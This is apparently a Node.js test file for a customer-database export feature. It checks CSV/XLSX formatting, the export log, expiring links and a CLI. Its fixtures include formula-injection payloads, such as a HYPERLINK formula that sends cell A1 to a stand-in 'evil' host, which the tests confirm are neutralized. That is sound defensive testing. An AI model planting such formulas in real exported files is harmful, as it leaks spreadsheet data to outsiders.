// Export end to end: the API, the job, real files read back (exceljs, LibreOffice), the log,
// links and their expiry, and the CLI both in-process and against a running server.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { before, describe, test } from 'node:test';
import ExcelJS from 'exceljs';
import { ADMIN_TOKEN, testContext } from '../../test/context.ts';
import { runOnce, startWorker } from '../jobs/jobs.service.ts';
import { PassThrough } from 'node:stream';
import { contentDisposition, resolveExport, writeExport } from './export.service.ts';

const ctx = await testContext();
const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'kt-exports-'));

let baseId = 0;
let ids: Record<string, number> = {};
let vip = 0;

before(async () => {
  const base = await ctx.newBase({ name: 'Клиенты' });
  baseId = base.id;
  let r = await ctx.api('POST', `/api/v1/bases/${baseId}/fields`, { key: 'level', type: 'list', listMode: 'static', options: ['Silver', 'Gold'], label: { ru: 'Уровень', en: 'Level' } });
  assert.equal(r.status, 201, JSON.stringify(r.body));
  r = await ctx.api('POST', `/api/v1/bases/${baseId}/fields`, { key: 'score', type: 'float', label: { ru: 'Баллы', en: 'Score' } });
  assert.equal(r.status, 201, JSON.stringify(r.body));
  r = await ctx.api('POST', `/api/v1/bases/${baseId}/tags`, { name: 'VIP' });
  vip = r.body.id;
  const a = await ctx.newProfile(baseId, { phone: '8 (916) 123-45-67', cardNumber: '2000000000017', lastName: 'Иванов', firstName: 'Иван', city: 'Москва', birthDate: '1990-05-17', fields: { level: 'Gold', score: 12.5 }, tags: [vip] });
  const b = await ctx.newProfile(baseId, { phone: '+7 903 000-00-02', lastName: '=HYPERLINK("http://evil/?"&A1;"x")', firstName: '@SUM(1)', city: 'Москва' });
  const c = await ctx.newProfile(baseId, { phone: '+7 903 000-00-03', lastName: 'Петров; "младший"', city: 'Казань', email: 'petrov@mail.ru' });
  ids = { a: a.id, b: b.id, c: c.id };
});

/** POST an export, run its job, return the finished record and the 202 body. */
async function exportNow(body: Record<string, unknown>, headers: Record<string, string> = {}) {
  const r = await ctx.api('POST', `/api/v1/bases/${baseId}/exports`, body, headers);
  assert.equal(r.status, 202, JSON.stringify(r.body));
  assert.equal(r.body.status, 'queued');
  const job = await runOnce(ctx.db, { dataDir: ctx.config.dataDir });
  assert.equal(job?.status, 'done', JSON.stringify(job));
  const rec = await ctx.api('GET', `/api/v1/bases/${baseId}/exports/${r.body.id}`);
  assert.equal(rec.status, 200);
  assert.equal(rec.body.status, 'done');
  return { created: r.body, record: rec.body };
}

async function download(url: string, auth = true) {
  const res = await ctx.app.inject({ method: 'GET', url, headers: auth ? { authorization: `Bearer ${ADMIN_TOKEN}` } : {} });
  return { status: res.statusCode, headers: res.headers, bytes: res.rawPayload, json: () => JSON.parse(res.body) };
}

describe('export through the API', () => {
  test('a filter to CSV excel-ru: BOM, ";", CRLF, phones as text, formulas neutralized; the log has the file hash', async () => {
    const { created, record } = await exportNow({ format: 'csv', columns: ['id', 'lastName', 'firstName', 'phone', 'cardNumber', 'birthDate', 'tags', 'fields.level', 'fields.score'], query: { filter: { field: 'city', op: 'eq', value: 'москва' } } });
    assert.equal(record.rows, 2);
    assert.equal(record.dialect, 'excel-ru');
    assert.match(record.fileName, /^Клиенты \d{4}-\d{2}-\d{2}\.csv$/);
    assert.equal(record.downloadUrl, `/api/v1/bases/${baseId}/exports/${created.id}/file`);
    const f = await download(record.downloadUrl);
    assert.equal(f.status, 200);
    assert.equal(f.headers['content-type'], 'text/csv; charset=utf-8');
    assert.equal(f.headers['content-disposition'], contentDisposition(record.fileName));
    assert.match(String(f.headers['content-disposition']), /filename\*=UTF-8''%D0%9A%D0%BB%D0%B8%D0%B5%D0%BD%D1%82%D1%8B%20\d{4}-\d{2}-\d{2}\.csv$/);
    assert.equal(sha256(f.bytes), record.sha256);
    assert.equal(f.bytes.length, record.size);
    assert.deepEqual([...f.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = f.bytes.toString('utf8').slice(1);
    assert.equal(
      text,
      'ID;Фамилия;Имя;Телефон;Номер карты;Дата рождения;Теги;Уровень;Баллы\r\n' +
        `${ids.a};Иванов;Иван;'+79161234567;2000000000017;17.05.1990;VIP;Gold;12,5\r\n` +
        `${ids.b};"'=HYPERLINK(""http://evil/?""&A1;""x"")";'@SUM(1);'+79030000002;;;;;\r\n`,
    );
  });

  test('a selection to XLSX: exceljs reads text phones and cards, the formula as a string', async () => {
    const { record } = await exportNow({ format: 'xlsx', ids: [ids.b, ids.a, 999_999_999] });
    assert.equal(record.rows, 2);
    assert.equal(record.dialect, null);
    const f = await download(record.downloadUrl);
    assert.equal(f.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    assert.equal(sha256(f.bytes), record.sha256);
    const file = path.join(tmp, 'selection.xlsx');
    fs.writeFileSync(file, f.bytes);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0]!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    assert.deepEqual(header.slice(0, 8), ['ID', 'Тип клиента', 'Фамилия', 'Имя', 'Отчество', 'Телефон', 'E-mail', 'Номер карты']);
    assert.equal(header.at(-3), 'Теги');
    assert.deepEqual(header.slice(-2), ['Уровень', 'Баллы']);
    const col = (name: string) => header.indexOf(name) + 1;
    const row2 = ws.getRow(2);
    assert.equal(row2.getCell(col('ID')).value, ids.a);
    assert.equal(row2.getCell(col('Телефон')).value, '+79161234567');
    assert.equal(row2.getCell(col('Номер карты')).value, '2000000000017');
    assert.equal(row2.getCell(col('Теги')).value, 'VIP');
    assert.equal(row2.getCell(col('Баллы')).value, 12.5);
    const born = row2.getCell(col('Дата рождения')).value as Date;
    assert.equal(born.toISOString().slice(0, 10), '1990-05-17');
    const row3 = ws.getRow(3);
    const evil = row3.getCell(col('Фамилия'));
    assert.equal(evil.type, ExcelJS.ValueType.String);
    assert.equal(evil.value, '=HYPERLINK("http://evil/?"&A1;"x")');
    assert.equal(ws.rowCount, 3);
  });

  const office = ['libreoffice', 'soffice'].find((bin) => spawnSync('which', [bin]).status === 0);
  // CI installs LibreOffice (.ci/run) and must run this; elsewhere a machine without it says so.
  test('LibreOffice reads our XLSX export: phones stay text, the formula is not evaluated', { skip: office || process.env.CI ? false : 'LibreOffice is not installed (apt-get install libreoffice-calc-nogui)' }, async () => {
    assert.ok(office, 'LibreOffice is required in CI: .ci/run installs libreoffice-calc-nogui');
    const { record } = await exportNow({ format: 'xlsx', columns: ['lastName', 'phone', 'cardNumber', 'birthDate'], ids: [ids.a, ids.b] });
    const f = await download(record.downloadUrl);
    const dir = fs.mkdtempSync(path.join(tmp, 'lo-'));
    fs.writeFileSync(path.join(dir, 'export.xlsx'), f.bytes);
    // a profile of its own: two LibreOffice processes sharing one (another test file's) fail to start
    const run = spawnSync(office!, ['--headless', `-env:UserInstallation=file://${path.join(dir, 'profile')}`, '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', dir, path.join(dir, 'export.xlsx')], { encoding: 'utf8', timeout: 120_000 });
    assert.equal(run.status, 0, run.stderr);
    const text = fs.readFileSync(path.join(dir, 'export.csv'), 'utf8').replace(/^\uFEFF/, '').replace(/\r\n/g, '\n');
    assert.equal(
      text.trimEnd(),
      ['Фамилия,Телефон,Номер карты,Дата рождения', 'Иванов,+79161234567,2000000000017,17.05.1990', '"=HYPERLINK(""http://evil/?""&A1;""x"")",+79030000002,,'].join('\n'),
    );
  });

  test('a segment to CSV plain: ",", no BOM, LF, ISO dates', async () => {
    const seg = await ctx.api('POST', `/api/v1/bases/${baseId}/segments`, { name: 'Ручной', kind: 'manual' });
    assert.equal(seg.status, 201, JSON.stringify(seg.body));
    const m = await ctx.api('POST', `/api/v1/bases/${baseId}/segments/${seg.body.id}/members`, { ids: [ids.a, ids.c] });
    assert.equal(m.status, 200, JSON.stringify(m.body));
    const { record } = await exportNow({ format: 'csv', dialect: 'plain', columns: ['lastName', 'email', 'birthDate', 'fields.score', 'createdAt'], segmentId: seg.body.id }, { 'accept-language': 'en' });
    assert.deepEqual(record.source, { segmentId: seg.body.id });
    const text = (await download(record.downloadUrl)).bytes.toString('utf8');
    const lines = text.split('\n');
    assert.equal(lines[0], 'Last name,Email,Birth date,Score,Created');
    assert.equal(lines[1]!.replace(/,[^,]*$/, ''), 'Иванов,,1990-05-17,12.5');
    assert.match(lines[1]!, /,\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    assert.equal(lines[2]!.replace(/,[^,]*$/, ''), '"Петров; ""младший""",petrov@mail.ru,,');
    assert.equal(lines.length, 4);
    assert.equal(lines[3], '');
  });

  test('the export log: newest first, who, what, rows, format and the hash of the downloaded bytes', async () => {
    const r = await ctx.api('GET', `/api/v1/bases/${baseId}/exports`);
    assert.equal(r.status, 200);
    const items = r.body.items as any[];
    assert.ok(items.length >= 3);
    assert.deepEqual(items.map((i) => i.id), [...items.map((i) => i.id)].sort((x, y) => y - x));
    for (const e of items) {
      assert.equal(e.actor, 'env');
      assert.equal(e.status, 'done');
      assert.ok(e.downloadUrl && e.expiresAt && e.sha256 && e.size > 0 && e.rows >= 1, JSON.stringify(e));
      assert.equal(sha256((await download(e.downloadUrl)).bytes), e.sha256);
    }
    const first = items.at(-1);
    assert.deepEqual(first.source, { query: { filter: { field: 'city', op: 'eq', value: 'москва' } } });
    assert.deepEqual(first.columns, ['id', 'lastName', 'firstName', 'phone', 'cardNumber', 'birthDate', 'tags', 'fields.level', 'fields.score']);
    const job = await ctx.api('GET', `/api/v1/jobs/${first.jobId}`);
    assert.equal(job.body.kind, 'export');
    assert.deepEqual(job.body.progress, { done: 2, total: 2 });
  });

  test('the link downloads without authentication until it expires; then 410 and the file is gone', async () => {
    const r = await ctx.api('POST', `/api/v1/bases/${baseId}/exports`, { format: 'csv', query: {} });
    assert.equal(r.status, 202);
    const link: string = r.body.link;
    assert.match(link, new RegExp(`^/api/v1/exports/${r.body.id}/file\\?token=[\\w-]{32}$`));
    // not ready yet
    assert.equal((await download(link, false)).status, 409);
    await runOnce(ctx.db, { dataDir: ctx.config.dataDir });
    const ok = await download(link, false);
    assert.equal(ok.status, 200);
    const rec = (await ctx.api('GET', `/api/v1/bases/${baseId}/exports/${r.body.id}`)).body;
    assert.equal(sha256(ok.bytes), rec.sha256);
    assert.equal(rec.rows, 3);
    const expiresIn = Date.parse(rec.expiresAt) - Date.now();
    assert.ok(expiresIn > 23.9 * 3600_000 && expiresIn <= 24 * 3600_000, `expires in ${expiresIn} ms`);
    // a wrong token is a 404, like an export that is not there
    assert.equal((await download(link.replace(/token=.*/, 'token=nope'), false)).status, 404);
    // a new link replaces the old one
    const again = await ctx.api('POST', `/api/v1/bases/${baseId}/exports/${r.body.id}/link`);
    assert.equal(again.status, 201);
    assert.equal((await download(link, false)).status, 404);
    assert.equal((await download(again.body.link, false)).status, 200);

    const file = path.join(ctx.config.dataDir, 'files', 'exports', `${r.body.id}.csv`);
    assert.ok(fs.existsSync(file));
    await ctx.db.updateTable('exports').set({ expires_at: new Date(Date.now() - 1000) }).where('id', '=', r.body.id).execute();
    const gone = await download(again.body.link, false);
    assert.equal(gone.status, 410);
    assert.equal(gone.headers['content-type'], 'application/problem+json; charset=utf-8');
    assert.equal(gone.json().code, 'gone');
    assert.ok(!fs.existsSync(file), 'the expired file is deleted');
    const authed = await ctx.api('GET', `/api/v1/bases/${baseId}/exports/${r.body.id}/file`, undefined, { 'accept-language': 'en' });
    assert.equal(authed.status, 410);
    assert.match(authed.body.detail, /expired/);
    const after = (await ctx.api('GET', `/api/v1/bases/${baseId}/exports/${r.body.id}`)).body;
    assert.equal(after.expired, true);
    assert.equal(after.downloadUrl, null);
  });

  test('bad requests: an unknown column names columns[i] in Russian and English; exactly one source', async () => {
    const body = { format: 'csv', columns: ['phone', 'fields.nope', 'phone'], query: {} };
    const ru = await ctx.api('POST', `/api/v1/bases/${baseId}/exports`, body);
    assert.equal(ru.status, 400);
    assert.deepEqual(ru.body.errors, [
      { field: 'columns[1]', message: 'Нет такой колонки: «fields.nope» (id, стандартные поля, tags, fields.<ключ>)' },
      { field: 'columns[2]', message: 'Колонка «phone» указана дважды' },
    ]);
    const en = await ctx.api('POST', `/api/v1/bases/${baseId}/exports`, body, { 'accept-language': 'en' });
    assert.equal(en.body.errors[0].field, 'columns[1]');
    assert.equal(en.body.errors[0].message, 'No such column: “fields.nope” (id, standard fields, tags, fields.<key>)');
    const two = await ctx.api('POST', `/api/v1/bases/${baseId}/exports`, { format: 'csv', query: {}, ids: [1] });
    assert.equal(two.status, 400);
    assert.equal(two.body.errors[0].field, 'ids');
    const none = await ctx.api('POST', `/api/v1/bases/${baseId}/exports`, { format: 'xlsx', dialect: 'plain' });
    assert.deepEqual(none.body.errors.map((e: any) => e.field), ['query', 'dialect']);
    const badFilter = await ctx.api('POST', `/api/v1/bases/${baseId}/exports`, { format: 'csv', query: { filter: { field: 'nope', op: 'eq', value: 1 } } });
    assert.equal(badFilter.status, 400);
    assert.match(badFilter.body.errors[0].field, /^query\.filter/);
    const badSegment = await ctx.api('POST', `/api/v1/bases/${baseId}/exports`, { format: 'csv', segmentId: 999_999 });
    assert.equal(badSegment.body.errors[0].field, 'segmentId');
    assert.equal((await ctx.api('POST', `/api/v1/bases/999999/exports`, { format: 'csv', query: {} })).status, 404);
    assert.equal((await ctx.api('GET', `/api/v1/bases/${baseId}/exports/999999`)).status, 404);
  });
});

describe('export in the table\'s order', () => {
  test('the rows come as the table sorts them: by a number descending with empties last, newest first; COPY and keyset batches agree', async () => {
    const base = await ctx.newBase({ name: 'Порядок' });
    const r = await ctx.api('POST', `/api/v1/bases/${base.id}/fields`, { key: 'score', type: 'int', label: { ru: 'Баллы', en: 'Score' } });
    assert.equal(r.status, 201, JSON.stringify(r.body));
    const scores = [5, null, 9, 5, 1, null, 9, 3];
    const made: { id: number; score: number | null }[] = [];
    for (const [i, score] of scores.entries()) made.push({ id: (await ctx.newProfile(base.id, { phone: `+7 916 100-00-${String(i).padStart(2, '0')}`, ...(score === null ? {} : { fields: { score } }) })).id, score });
    // As the search sorts: score descending with empties last, ties by id in the first key's direction.
    const byScore = [...made].sort((a, b) => (a.score === null ? 1 : 0) - (b.score === null ? 1 : 0) || (b.score ?? 0) - (a.score ?? 0) || b.id - a.id).map((x) => x.id);
    const search = await ctx.api('POST', `/api/v1/bases/${base.id}/profiles/search`, { sort: [{ field: 'fields.score', dir: 'desc' }], limit: 100, columns: ['id'] });
    assert.deepEqual(search.body.items.map((x: { id: number }) => x.id), byScore);
    const idsOf = async (format: 'csv' | 'xlsx', sort: unknown, csvIn?: 'copy' | 'js') => {
      const { plan } = await resolveExport(ctx.db, base.id, { format, columns: ['id'], query: {}, sort } as never, undefined, 'ru');
      const chunks: Buffer[] = [];
      const stream = new PassThrough();
      stream.on('data', (c: Buffer) => chunks.push(c));
      // Batches of 3 rows and a split threshold of 1: every keyset step and the one-COPY rule are exercised.
      await writeExport({ ...plan, ...(csvIn ? { csvIn } : {}) }, stream, ctx.db, { batchSize: 3, splitAbove: 1 });
      const bytes = Buffer.concat(chunks);
      if (format === 'csv') return bytes.toString('utf8').replace(/^\uFEFF/, '').trim().split(/\r?\n/).slice(1).map(Number);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(bytes as never);
      const ws = wb.worksheets[0]!;
      return Array.from({ length: ws.rowCount - 1 }, (_, i) => Number(ws.getRow(i + 2).getCell(1).value));
    };
    const score = [{ field: 'fields.score', dir: 'desc' }];
    assert.deepEqual(await idsOf('csv', score), byScore, 'CSV by COPY');
    assert.deepEqual(await idsOf('csv', score, 'js'), byScore, 'CSV cell by cell');
    assert.deepEqual(await idsOf('xlsx', score), byScore, 'XLSX in keyset batches');
    const newest = made.map((x) => x.id).sort((a, b) => b - a);
    assert.deepEqual(await idsOf('xlsx', [{ field: 'createdAt', dir: 'desc' }]), newest);
    assert.deepEqual(await idsOf('csv', undefined), [...newest].reverse(), 'without a sort: by id');

    // Through the API the log keeps the order asked for; a field that cannot sort is named.
    const created = await ctx.api('POST', `/api/v1/bases/${base.id}/exports`, { format: 'csv', columns: ['id'], query: {}, sort: score });
    assert.equal(created.status, 202, JSON.stringify(created.body));
    assert.deepEqual(created.body.source, { query: {}, sort: score });
    const job = await runOnce(ctx.db, { dataDir: ctx.config.dataDir });
    assert.equal(job?.status, 'done');
    const rec = await ctx.api('GET', `/api/v1/bases/${base.id}/exports/${created.body.id}`);
    const file = await download(rec.body.downloadUrl);
    assert.deepEqual(file.bytes.toString('utf8').replace(/^\uFEFF/, '').trim().split(/\r?\n/).slice(1).map(Number), byScore);
    const bad = await ctx.api('POST', `/api/v1/bases/${base.id}/exports`, { format: 'csv', query: {}, sort: [{ field: 'tags', dir: 'asc' }] });
    assert.equal(bad.status, 400);
    assert.equal(bad.body.errors[0].field, 'sort[0].field');
  });
});

describe('CSV written by COPY', () => {
  test('are byte for byte what csvWriter makes of the same values, in both dialects', async () => {
    const base = await ctx.newBase({ name: 'Equivalence' });
    for (const [key, type] of [['d', 'date'], ['n', 'float'], ['b', 'boolean'], ['t', 'tags'], ['s', 'string']] as const) {
      const r = await ctx.api('POST', `/api/v1/bases/${base.id}/fields`, { key, type, label: { ru: key, en: key } });
      assert.equal(r.status, 201, JSON.stringify(r.body));
    }
    const t1 = (await ctx.api('POST', `/api/v1/bases/${base.id}/tags`, { name: '=tag; "one"' })).body.id;
    const t2 = (await ctx.api('POST', `/api/v1/bases/${base.id}/tags`, { name: 'два' })).body.id;
    const nasty = ['=1+1', '+7', '-', '@x', '\tTAB', 'a;b', 'a,b', 'say "hi"', 'line\nbreak', 'cr\rhere', "'quoted", 'ёлка', ' =space', ''];
    let i = 0;
    for (const v of nasty) {
      i++;
      await ctx.newProfile(base.id, {
        phone: `+7 916 000-00-${String(i).padStart(2, '0')}`,
        lastName: v || null,
        city: nasty[(i + 3) % nasty.length] || null,
        extraKey1: v ? `${v}${v}` : null,
        birthDate: i % 2 ? '2001-02-03' : null,
        fields: { d: i % 3 ? '2020-12-31' : null, n: i % 2 ? -1.25 * i : i, b: i % 2 === 0, t: i % 4 ? [v || 'x', 'y;z'] : null, s: v || null },
        tags: i % 3 === 0 ? [t1, t2] : i % 3 === 1 ? [t2] : [],
      });
    }
    for (const dialect of ['excel-ru', 'plain'] as const) {
      const { plan } = await resolveExport(ctx.db, base.id, { format: 'csv', dialect, query: {} }, undefined, 'ru');
      const out = async (csvIn: 'copy' | 'js', splitAbove?: number) => {
        const chunks: Buffer[] = [];
        const stream = new PassThrough();
        stream.on('data', (c: Buffer) => chunks.push(c));
        const r = await writeExport({ ...plan, csvIn }, stream, ctx.db, { batchSize: 4, ...(splitAbove ? { splitAbove } : {}) });
        return { r, bytes: Buffer.concat(chunks) };
      };
      const a = await out('copy');
      const b = await out('js');
      assert.equal(a.r.rows, nasty.length);
      assert.equal(a.bytes.toString('utf8'), b.bytes.toString('utf8'), dialect);
      assert.equal(a.r.sha256, b.r.sha256);
      // A large export is two COPYs over the halves of the id range: the same bytes.
      const halves = await out('copy', 1);
      assert.equal(halves.bytes.toString('utf8'), b.bytes.toString('utf8'), `${dialect}, two halves`);
      assert.equal(halves.r.rows, nasty.length);
    }
  });
});

describe('kartoteka export (CLI)', () => {
  const cli = (args: string[], env: Record<string, string>) =>
    new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
      const child = spawn('npx', ['node', 'src/cli.ts', 'export', ...args], { env: { ...process.env, KARTOTEKA_URL: '', KARTOTEKA_TOKEN: '', ...env }, cwd: path.resolve(import.meta.dirname, '../..') });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d) => (stdout += d));
      child.stderr.on('data', (d) => (stderr += d));
      child.on('exit', (code) => resolve({ code, stdout, stderr }));
    });

  test('directly on the database: writes the file and logs the export as cli', async () => {
    const out = path.join(tmp, 'cli.csv');
    const r = await cli(['--base', String(baseId), '--format', 'csv', '--out', out, '--columns', 'lastName,phone', '--filter', '{"field":"city","op":"eq","value":"Казань"}'], { DATABASE_URL: ctx.url, LANG: 'C.UTF-8', LC_ALL: '' });
    assert.equal(r.code, 0, r.stderr);
    const bytes = fs.readFileSync(out);
    assert.equal(bytes.toString('utf8'), "\uFEFFФамилия;Телефон\r\n\"Петров; \"\"младший\"\"\";'+79030000003\r\n");
    assert.match(r.stdout, /^1 rows, \d+ bytes, sha256 [0-9a-f]{64} ->/);
    const row = await ctx.db.selectFrom('exports').selectAll().where('actor', '=', 'cli').executeTakeFirstOrThrow();
    assert.equal(row.rows, 1);
    assert.equal(row.file_sha256, sha256(bytes));
    assert.equal(row.job_id, null);
    assert.equal(row.status, 'done');

    const bad = await cli(['--base', String(baseId), '--format', 'csv', '--out', path.join(tmp, 'bad.csv'), '--columns', 'phone,nope'], { DATABASE_URL: ctx.url, LANG: 'en_US.UTF-8', LC_ALL: '' });
    assert.equal(bad.code, 1);
    assert.match(bad.stderr, /columns\[1\]: No such column: “nope”/);
  });

  test('against a running server: creates the export, follows the job, downloads the file', async () => {
    const address = await ctx.app.listen({ port: 0, host: '127.0.0.1' });
    const worker = startWorker(ctx.db, { pollMs: 50, dataDir: ctx.config.dataDir });
    try {
      const out = path.join(tmp, 'remote.xlsx');
      const r = await cli(['--base', String(baseId), '--format', 'xlsx', '--out', out, '--q', 'Иванов'], { KARTOTEKA_URL: address, KARTOTEKA_TOKEN: ADMIN_TOKEN });
      assert.equal(r.code, 0, r.stderr);
      const rec = (await ctx.api('GET', `/api/v1/bases/${baseId}/exports?limit=1`)).body.items[0];
      assert.equal(rec.format, 'xlsx');
      assert.deepEqual(rec.source, { query: { q: 'Иванов' } });
      assert.equal(rec.rows, 1);
      assert.equal(sha256(fs.readFileSync(out)), rec.sha256);
      const wrong = await cli(['--base', String(baseId), '--format', 'csv', '--out', out], { KARTOTEKA_URL: address, KARTOTEKA_TOKEN: 'wrong-token-0123456789', LANG: 'en_US.UTF-8', LC_ALL: '' });
      assert.equal(wrong.code, 1);
      assert.match(wrong.stderr, /\(401\)/);
    } finally {
      await worker.stop();
    }
  });
});
